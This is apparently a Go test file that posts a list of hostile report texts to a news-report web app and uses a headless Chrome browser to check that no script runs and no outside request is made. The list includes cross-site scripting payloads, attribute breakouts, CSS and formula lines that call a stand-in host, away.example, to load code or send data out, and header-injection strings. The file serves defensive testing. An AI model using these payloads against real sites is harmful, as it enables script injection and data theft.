package web

import (
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/network"
	dialog "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// hostile are inputs that would do something if they were shown as what they
// are. Each sets window.ran, asks away.example for something, or breaks out of
// where it is shown.
var hostile = []struct{ name, text string }{
	{"script", `<script>window.ran=1</script>`},
	{"script in capitals", `<SCRIPT>window.ran=1</SCRIPT>`},
	{"script after a broken tag", `<scr<script>ipt>window.ran=1</scr</script>ipt>`},
	{"script from elsewhere", `<script src="https://away.example/x.js"></script>`},
	{"module", `<script type="module">window.ran=1</script>`},
	{"picture with a handler", `"><img src=x onerror=window.ran=1>`},
	{"picture from elsewhere", `<img src="https://away.example/pixel.gif">`},
	{"picture set", `<img srcset="https://away.example/a.png 2x">`},
	{"SVG with a handler", `<svg onload=window.ran=1>`},
	{"SVG with a script", `<svg><script>window.ran=1</script></svg>`},
	{"SVG that uses another", `<svg><use href="https://away.example/x.svg#a"/></svg>`},
	{"SVG animation", `<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>`},
	{"foreign object", `<svg><foreignObject><body onload=window.ran=1></foreignObject></svg>`},
	{"mathematics", `<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1></style></mglyph></table></mtext></math>`},
	{"frame", `</p></article><iframe src="https://away.example/"></iframe>`},
	{"frame with its own text", `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`},
	{"object", `<object data="https://away.example/x.swf"></object><embed src="https://away.example/y">`},
	{"video", `<video src="https://away.example/v.mp4" autoplay onloadstart=window.ran=1></video>`},
	{"details with a handler", `<details open ontoggle=window.ran=1>x</details>`},
	{"focus with a handler", `<input autofocus onfocus=window.ran=1>`},
	{"form to elsewhere", `</form><form action="https://away.example/"><button>Log in</button></form>`},
	{"refresh", `<meta http-equiv="refresh" content="0;url=https://away.example/">`},
	{"base", `<base href="https://away.example/">`},
	{"style from elsewhere", `<link rel="stylesheet" href="https://away.example/x.css">`},
	{"style", `<style>body{display:none}*{background:url(https://away.example/s)}</style>`},
	{"style attribute", `<p style="position:fixed;inset:0;background:url(https://away.example/a)">over all</p>`},
	{"style that is imported", `</style><style>@import "https://away.example/i.css";</style>`},
	{"javascript address", `<a href="javascript:window.ran=1">read more</a>`},
	{"javascript address with tabs", "<a href=\"java\tscript:window.ran=1\">read more</a>"},
	{"javascript address alone", `javascript:window.ran=1`},
	{"data address", `<a href="data:text/html,<script>window.ran=1</script>">x</a>`},
	{"data address alone", `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`},
	{"template syntax", `{{.Doc}} {{template "layout"}} ${window.ran=1} #{1} <%= 1 %>`},
	{"template element", `<template><script>window.ran=1</script></template>`},
	{"end of a comment", `--><script>window.ran=1</script><!--`},
	{"end of the title", `</title><script>window.ran=1</script>`},
	{"end of an attribute", `" onmouseover="window.ran=1" x="`},
	{"end of an attribute in single marks", `' onfocus='window.ran=1' autofocus x='`},
	{"end of the text area", `</textarea><script>window.ran=1</script>`},
	{"end of the list", `</li></ol></aside></div></main><h1>Another page</h1>`},
	{"entities", `&lt;script&gt;window.ran=1&lt;/script&gt; &#60;script&#62;`},
	{"UTF-7", `+ADw-script+AD4-window.ran=1+ADw-/script+AD4-`},
	{"overlong and half characters", "\xc0\xbcscript\xc0\xbe \xed\xa0\xbc"},
	{"zero bytes", "<scr\x00ipt>window.ran=1</scr\x00ipt>"},
	{"terminal escapes", "\x1b]0;owned\x07\x1b[2J\x1b[31mred"},
	{"right-to-left override", "\u202etfel ot thgir\u202c and \u202e without an end"},
	{"isolates without an end", "\u2067\u2066\u2068 never closed"},
	{"right-to-left name", "\u05d0\u05d1\u05d2 \u0645\u062d\u0645\u062f (1)"},
	{"zero width", "Rus\u200bsia\u200d\ufeff\u2060 and Ru\u00adssia"},
	{"homoglyphs", "\u0420ut\u0456n of Russi\u0430"},
	{"combining marks", "Z" + strings.Repeat("\u0335\u0321\u0353", 400)},
	{"formula", `=HYPERLINK("https://away.example/?"&A1,"x")`},
	{"large attribute", `<p title="` + strings.Repeat("x", 200_000) + `">x</p>`},
	{"many tags", strings.Repeat("<b><i>", 300)},
	{"deep", strings.Repeat("<div>", 400) + "deep"},
	{"one long word", strings.Repeat("a", 1_000_000)},
	{"one long word of wide letters", strings.Repeat("\u6f22", 30_000)},
	{"line ends", "a\r\nSet-Cookie: x=1\r\n\r\n<script>window.ran=1</script>"},
}

// inert is a script that lists what on a page is not what it should be.
const inert = `(() => {
  const bad = [];
  if (window.ran) bad.push("a script ran");
  const own = e => e.getAttribute("src")?.startsWith("/static/") || e.getAttribute("href")?.startsWith("/static/");
  for (const e of document.querySelectorAll("iframe,object,embed,base,meta[http-equiv],style,img,video,audio,template,math"))
    bad.push("an element that no page has: " + e.tagName);
  for (const e of document.querySelectorAll("script,link")) if (!own(e)) bad.push("not our own: " + e.outerHTML.slice(0, 80));
  for (const e of document.querySelectorAll("*"))
    for (const a of e.attributes) {
      if (/^on/i.test(a.name)) bad.push("a handler: " + e.tagName + " " + a.name);
      if (/^(href|src|action|formaction)$/i.test(a.name) && !/^(\/|#|\?|$)/.test(a.value)) bad.push("leads away: " + a.value.slice(0, 80));
      if (a.name === "style" && !e.closest("svg") && !/^--/.test(a.value)) bad.push("a style: " + a.value.slice(0, 80));
    }
  if (document.querySelectorAll("h1").length !== 1 || document.querySelectorAll("main").length !== 1) bad.push("not one heading and one main part");
  const foot = document.querySelector("footer");
  if (!foot || foot.closest("main") || getComputedStyle(foot).display === "none") bad.push("the foot of the page is lost");
  if (document.documentElement.scrollWidth > innerWidth + 1) bad.push("wider than the window: " + document.documentElement.scrollWidth);
  const inline = e => getComputedStyle(e).display.startsWith("inline") && !/^(button|input|select)$/i.test(e.tagName);
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walk.nextNode()) {
    const text = walk.currentNode;
    if (!/[\u202a-\u202e\u2066-\u2068\u0590-\u08ff]/.test(text.data)) continue;
    let e = text.parentElement, apart = e.closest("article.text p, .word > p:not([class]), .said p, textarea, option"); // all of it is the report's
    for (; !apart && inline(e); e = e.parentElement) apart = /isolate/.test(getComputedStyle(e).unicodeBidi);
    if (!apart && e.textContent.trim() !== text.data.trim()) bad.push("not set apart: " + e.tagName + "." + e.className + " " + JSON.stringify(text.data.slice(0, 60)));
  }
  return bad;
})()`

// What strangers write is shown and does nothing: no script, no request, no
// style, no way out of its place. A real browser looks at it.
func TestHostileReportsInBrowser(t *testing.T) {
	t.Parallel()
	ctx := browser(t)
	s := serve(t, "")
	var mu sync.Mutex
	var asked []string
	if err := chromedp.Listen(ctx, func(ev any) {
		mu.Lock()
		defer mu.Unlock()
		switch ev := ev.(type) {
		case *network.EventRequestWillBeSent:
			if !strings.HasPrefix(ev.Request.URL, s.URL+"/") && !strings.HasPrefix(ev.Request.URL, "about:") {
				asked = append(asked, ev.Request.URL)
			}
		case *dialog.EventJavascriptDialogOpening:
			asked = append(asked, "a dialog: "+ev.Message)
		}
	}); err != nil {
		t.Fatalf("start the browser: %v", err)
	}
	look := func(name, path string) {
		t.Helper()
		if err := chromedp.Do(ctx, chromedp.Navigate(s.URL+path)); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		faults, err := chromedp.Run(ctx, chromedp.Evaluate[[]string](inert))
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, f := range faults {
			t.Errorf("%s at %.40s: %s", name, path, f)
		}
	}
	if err := chromedp.Do(ctx, chromedp.EmulateViewport(800, 900)); err != nil {
		t.Fatal(err)
	}
	for i, h := range hostile {
		var status int
		var body string
		short := h.text[:min(len(h.text), 5000)]
		said := "Russian Foreign Minister Sergey Lavrov said on Tuesday that " + short + " would follow. Russia attacked Ukraine on Monday, " + short + "."
		if i%4 == 3 && !strings.Contains(h.text, "\x00") { // as a page; one with zeros is refused as binary
			status, body = postAs(t, s.URL+"/api/reports", "text/html", "<html><head><title>"+h.text+"</title><meta name=author content=\""+h.text+"\"></head><body><article><h1>"+h.text+"</h1><p>"+said+"</p><p>"+h.text+"</p></article></body></html>")
		} else {
			doc, err := json.Marshal(map[string]any{"title": short, "outlet": short, "section": short, "authors": []string{short}, "url": short, "published": "2025-03-04", "text": h.text + "\n\n" + said})
			if err != nil {
				t.Fatal(err)
			}
			status, body = post(t, s.URL+"/api/reports", string(doc))
		}
		var added KeptReport
		if err := json.Unmarshal([]byte(body), &added); err != nil || status/100 != 2 {
			t.Fatalf("%s: status %d: %.200s", h.name, status, body)
		}
		look(h.name, "/record/"+added.Hash)
	}
	for _, path := range []string{"/record", "/search?q=Lavrov", "/search?q=" + url.QueryEscape(hostile[5].text), "/timeline", "/review", "/person/Sergey%20Lavrov", "/report", "/api", "/nowhere/" + url.PathEscape(hostile[0].text)} {
		look("all of them", path)
	}
	mu.Lock()
	defer mu.Unlock()
	for _, a := range asked {
		t.Errorf("the browser asked for %.100s", a)
	}
}

func postAs(t *testing.T, at, kind, body string) (int, string) {
	t.Helper()
	answer, err := http.Post(at, kind, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	var b strings.Builder
	if _, err := io.Copy(&b, answer.Body); err != nil {
		t.Fatal(err)
	}
	return answer.StatusCode, b.String()
}

func TestClosed(t *testing.T) {
	for text, want := range map[string]string{
		"plain": "plain", "\u202ea": "\u202ea\u202c", "\u202ea\u202c": "\u202ea\u202c", "\u2067\u202ea": "\u2067\u202ea\u202c\u2069",
		"\u2067\u202ea\u2069": "\u2067\u202ea\u2069", "\u202ea\u2069": "\u202ea\u2069\u202c", "\u202c\u2069a": "\u202c\u2069a",
	} {
		if got := closed(text); got != want {
			t.Errorf("%+q: %+q, want %+q", text, got, want)
		}
	}
}
